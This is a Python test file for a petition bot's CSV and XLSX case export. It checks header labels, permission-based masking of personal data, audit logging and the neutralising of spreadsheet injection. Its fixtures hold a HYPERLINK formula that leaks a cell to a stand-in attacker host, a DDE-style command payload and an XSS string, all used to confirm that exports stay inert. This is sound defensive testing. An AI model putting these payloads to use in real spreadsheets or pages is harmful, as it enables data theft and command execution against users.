"""CSV and XLSX export of the case list: headers, labels, masking, injection safety, size."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.staff.access import AccessDenied
from bot.staff.export import XLSX_CELL_LIMIT, CaseExporter, headers, neutralise_csv
from bot.staff.labels import load_labels
from bot.storage.case_query import CaseFilter
from bot.storage.db import Database
from bot.storage.staff import list_audit
from tests.conftest import CONFIG_DIR, FixedClock

from .support import ADMIN, HANDLER, SUPERVISOR, VIEWER, add_staff_rows, petition

LABELS = load_labels(CONFIG_DIR)
RESPONDENT = "区财政局副局长刘某某"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
LONG = "很长的事实" * 20_000  # 100 000 characters


async def _seed(db: Database, clock: FixedClock) -> dict[str, str]:
    now = clock()
    await add_staff_rows(db, now)
    numbers: dict[str, str] = {}
    _, numbers["accusation"] = await petition(
        db,
        now,
        "whistle",
        appeal_type="accusation",
        category="governance",
        department="hz-jw",
        flags=["first_petition", "urgent"],
        answers={
            "request": "请求查处违纪行为",
            "facts": "他收受好处费，电话13912345678。",
            "respondent": RESPONDENT,
        },
    )
    _, numbers["injection"] = await petition(
        db,
        now,
        "mallory",
        channel="telegram",
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+8613800138000",
        answers={"request": FORMULA, "facts": HTML + "\n-2+3\n\tTAB", "respondent": "某公司"},
    )
    _, numbers["long"] = await petition(
        db, now, "patient", answers={"request": "请求解决", "facts": LONG}
    )
    _, numbers["other"] = await petition(db, now, "far", department="330102-zjj")
    return numbers


def _exporter(db: Database, clock: FixedClock) -> CaseExporter:
    return CaseExporter(db, LABELS, clock=clock)


async def _csv(db: Database, clock: FixedClock, member: object, **kw: object) -> list[list[str]]:
    out = io.BytesIO()
    await _exporter(db, clock).write(CaseFilter(), member, "csv", out, **kw)  # type: ignore[arg-type]
    raw = out.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


async def _xlsx(
    db: Database, clock: FixedClock, member: object, **kw: object
) -> list[list[object]]:
    out = io.BytesIO()
    await _exporter(db, clock).write(CaseFilter(), member, "xlsx", out, **kw)  # type: ignore[arg-type]
    out.seek(0)
    sheet = load_workbook(out).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _by_number(rows: list[list[object]], number: str) -> list[object]:
    dashed = f"{number[:8]}-{number[8:14]}-{number[14:]}"
    return next(r for r in rows if r[0] == dashed)


async def test_csv_headers_labels_and_safety(db: Database, clock: FixedClock) -> None:
    numbers = await _seed(db, clock)
    rows = await _csv(db, clock, SUPERVISOR)
    assert rows[0] == headers("zh")
    assert rows[0][:4] == ["事项编号", "登记时间", "渠道", "状态"]
    assert len(rows) == 5
    acc = _by_number(rows, numbers["accusation"])  # type: ignore[arg-type]
    assert acc[1] == "2026-11-23 09:30"  # office local time
    assert acc[2:8] == [
        "网上",
        "已登记",
        "检举控告",
        "基层治理与干部作风",
        "西湖区",
        "杭州市纪委市监委",
    ]
    assert acc[9] == "初信初访、紧急"
    assert acc[12:14] == ["张三", "13800138000"]  # supervisors see personal data
    bad = _by_number(rows, numbers["injection"])  # type: ignore[arg-type]
    name, phone, request, facts = bad[12], bad[13], bad[14], bad[15]
    assert name == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert phone == "'+8613800138000"
    assert request == "'" + FORMULA
    # markup kept verbatim as inert text; formula starts after line breaks neutralised too
    assert facts == HTML + "\n'-2+3\n'\tTAB"
    long = _by_number(rows, numbers["long"])  # type: ignore[arg-type]
    assert long[15] == LONG  # kept whole in CSV
    flat = "\n".join(",".join(r) for r in rows)
    assert RESPONDENT not in flat and "某公司" not in flat  # 被反映对象 never exported


async def test_csv_in_english_within_scope(db: Database, clock: FixedClock) -> None:
    numbers = await _seed(db, clock)
    discipline = replace(HANDLER, departments=("hz-jw",))
    rows = await _csv(db, clock, discipline, lang="en")
    assert rows[0][:4] == ["Tracking number", "Submitted", "Channel", "Status"]
    assert len(rows) == 2  # only the handler's department
    acc = _by_number(rows, numbers["accusation"])  # type: ignore[arg-type]
    assert acc[2:7] == [
        "Web chat",
        "Registered",
        "Accusation",
        "Local governance and officials' conduct",
        "Xihu District",
    ]
    assert acc[12:14] == ["张三", "13800138000"]  # handlers have case.pii


async def test_export_masks_without_pii_permission(
    db: Database, clock: FixedClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.staff.access import PERMISSIONS, Permission, Role

    numbers = await _seed(db, clock)
    with pytest.raises(AccessDenied):  # viewers may not export at all
        await _csv(db, clock, VIEWER)
    monkeypatch.setitem(PERMISSIONS, Role.VIEWER, PERMISSIONS[Role.VIEWER] | {Permission.EXPORT})
    rows = await _csv(db, clock, VIEWER)
    acc = _by_number(rows, numbers["accusation"])  # type: ignore[arg-type]
    assert acc[12:14] == ["张*", "138****8000"]
    assert "13912345678" not in acc[15] and "1**********" in acc[15]
    sheet = await _xlsx(db, clock, VIEWER)
    assert "13800138000" not in str(sheet)


async def test_xlsx_types_limits_and_safety(db: Database, clock: FixedClock) -> None:
    numbers = await _seed(db, clock)
    rows = await _xlsx(db, clock, ADMIN)
    assert rows[0] == headers("zh")
    bad = _by_number(rows, numbers["injection"])
    assert bad[14] == FORMULA  # a text cell, not a formula (checked for every cell above)
    assert bad[12] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert bad[15] == HTML + "\n-2+3\n\tTAB"
    long = _by_number(rows, numbers["long"])
    assert isinstance(long[15], str) and len(long[15]) == XLSX_CELL_LIMIT
    assert long[15].endswith("…")
    assert long[10] == 1  # a number cell
    assert str(long[1]) == "2026-11-23 09:30:00"  # a date cell, local time
    assert RESPONDENT not in str(rows)


async def test_export_is_audited(db: Database, clock: FixedClock, tmp_path: Path) -> None:
    await _seed(db, clock)
    exporter = _exporter(db, clock)
    with open(tmp_path / "cases.xlsx", "wb") as out:
        count = await exporter.write(
            CaseFilter(categories=("labour",)), SUPERVISOR, "xlsx", out, ip="10.0.0.1"
        )
    assert count == 3
    chunks = [c async for c in exporter.stream_csv(CaseFilter(), SUPERVISOR)]
    assert b"".join(chunks).count(b"\r\n") >= 5
    async with db.read() as conn:
        audit = await list_audit(conn, action="case.export")
    assert [(a.actor, a.target, a.detail, a.ip) for a in reversed(audit)] == [
        ("boss", "xlsx", {"filter": {"categories": ["labour"]}, "rows": 3}, "10.0.0.1"),
        ("boss", "csv", {"filter": {}, "rows": 4}, ""),
    ]


def test_csv_neutralises_formulas_after_separators() -> None:
    """A ``;``-locale spreadsheet splits ``a;=1+2``: its second part is inert as well."""
    assert neutralise_csv("a;=1+2") == "a;'=1+2"
    assert neutralise_csv("x,+1|@A1\t-2") == "x,'+1|'@A1\t'-2"
    assert neutralise_csv("2026-01-01 12:00") == "2026-01-01 12:00"


async def test_csv_quotes_every_field(db: Database, clock: FixedClock) -> None:
    await _seed(db, clock)
    out = io.BytesIO()
    await _exporter(db, clock).write(CaseFilter(), SUPERVISOR, "csv", out)  # type: ignore[arg-type]
    for line in out.getvalue().decode("utf-8-sig").split("\r\n")[:2]:
        assert line.startswith('"') and line.endswith('"')
